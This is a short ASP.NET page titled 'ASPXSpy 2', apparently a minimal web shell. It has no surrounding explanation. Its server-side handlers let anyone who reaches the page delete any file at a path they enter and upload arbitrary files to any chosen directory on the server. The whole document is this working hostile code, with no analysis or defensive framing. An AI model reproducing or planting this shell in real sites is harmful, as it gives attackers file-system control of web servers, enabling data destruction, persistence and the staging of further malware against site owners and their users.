<%@ Page Language="C#" Debug="false" %>
<html><head><title>ASPXSpy 2</title></head>
<script runat="server">
protected void Kill(object o, EventArgs e) { System.IO.File.Delete(pathBox.Text); }
protected void Put(object o, EventArgs e) { upFile.PostedFile.SaveAs(System.IO.Path.Combine(pathBox.Text, upFile.FileName)); }
</script>
<body><form runat="server" enctype="multipart/form-data"><asp:TextBox ID="pathBox" runat="server" /><input type="file" id="upFile" runat="server" /><asp:Button Text="Delete" OnClick="Kill" runat="server" /><asp:Button Text="Upload" OnClick="Put" runat="server" /></form></body></html>
